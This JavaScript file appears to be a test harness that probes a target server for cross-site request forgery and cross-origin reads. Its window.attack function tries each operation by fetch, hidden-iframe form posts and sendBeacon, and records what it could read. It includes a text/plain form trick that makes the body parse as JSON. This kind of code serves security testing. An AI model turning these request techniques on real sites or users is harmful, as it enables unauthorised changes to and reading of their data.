/** Tries every operation in every way that a page has; tells what it could read. Beacons may still be under way. */
window.attack = async (target, operations) => {
  const answers = []
  for (const operation of operations) {
    const url = target + operation.path
    const ways = operation.method === 'GET' ? reading(url) : changing(url, operation)
    const done = Object.entries(ways).map(async ([way, go]) => {
      const { status = 0, text = '' } = (await go(way).catch(() => {})) ?? {}
      answers.push({ operation: operation.id, way, status, text })
    })
    await Promise.all(done)
  }
  return answers
}

function reading(url) {
  return {
    'fetch cors': () => take(fetch(url)),
    'fetch no-cors': () => take(fetch(url, { mode: 'no-cors' })),
  }
}

function changing(url, { method, body, type }) {
  const words = (way) => body.replaceAll('WAY-NAME', way.replaceAll(/[ /]/g, '-')).replaceAll('WAY', way)
  const file = (way) => new File([words(way)], `${way}.txt`.replaceAll(/[ /]/g, '-'), { type: 'text/plain' })
  const upload = (way) => {
    const data = new FormData()
    data.append('file', file(way))
    return data
  }
  const typed = (way, mediaType) => new Blob([words(way)], { type: mediaType })
  const text = { 'Content-Type': 'text/plain' }
  const json = { 'Content-Type': type }
  return {
    'form text/plain': (way) => submit(url, 'text/plain', words(way)),
    'form urlencoded': (way) => submit(url, 'application/x-www-form-urlencoded', words(way)),
    'form multipart': (way) => submit(url, 'multipart/form-data', file(way)),
    'fetch no-cors text': (way) => take(fetch(url, { method, mode: 'no-cors', headers: text, body: words(way) })),
    'fetch no-cors multipart': (way) => take(fetch(url, { method, mode: 'no-cors', body: upload(way) })),
    'fetch cors text': (way) => take(fetch(url, { method, headers: text, body: words(way) })),
    'fetch cors multipart': (way) => take(fetch(url, { method, body: upload(way) })),
    'fetch cors json': (way) => take(fetch(url, { method, headers: json, body: words(way) })),
    'beacon text': async (way) => void navigator.sendBeacon(url, typed(way, 'text/plain')),
    'beacon multipart': async (way) => void navigator.sendBeacon(url, upload(way)),
    'beacon json': async (way) => void navigator.sendBeacon(url, typed(way, type)),
  }
}

async function take(answer) {
  const response = await answer
  const isEndless = response.ok && response.url.endsWith('/live')
  return { status: response.status, text: isEndless ? await firstOf(response.body) : await response.text() }
}

async function firstOf(body) {
  const reader = body.getReader()
  const { value } = await reader.read()
  await reader.cancel()
  return new TextDecoder().decode(value)
}

/** A form into a frame; a file's name and bytes go as a browser's user would have chosen them. */
async function submit(action, enctype, content) {
  const frame = document.createElement('iframe')
  frame.name = `frame-${Math.random()}`
  document.body.append(frame)
  const form = Object.assign(document.createElement('form'), { method: 'post', action, enctype, target: frame.name })
  const field = document.createElement('input')
  if (typeof content === 'string') {
    // text/plain sends `name=value`: the `=` goes into a member more, so that the whole is JSON still.
    Object.assign(field, { name: `${content.slice(0, -1)},"pad":"`, value: '"}' })
  } else {
    const transfer = new DataTransfer()
    transfer.items.add(content)
    Object.assign(field, { name: 'file', type: 'file', files: transfer.files })
  }
  form.append(field)
  document.body.append(form)
  const loaded = new Promise((done) => frame.addEventListener('load', done, { once: true }))
  form.submit()
  await loaded
  let text = ''
  try {
    text = frame.contentDocument?.body?.textContent ?? ''
  } catch {
    text = ''
  }
  frame.remove()
  form.remove()
  return { text }
}
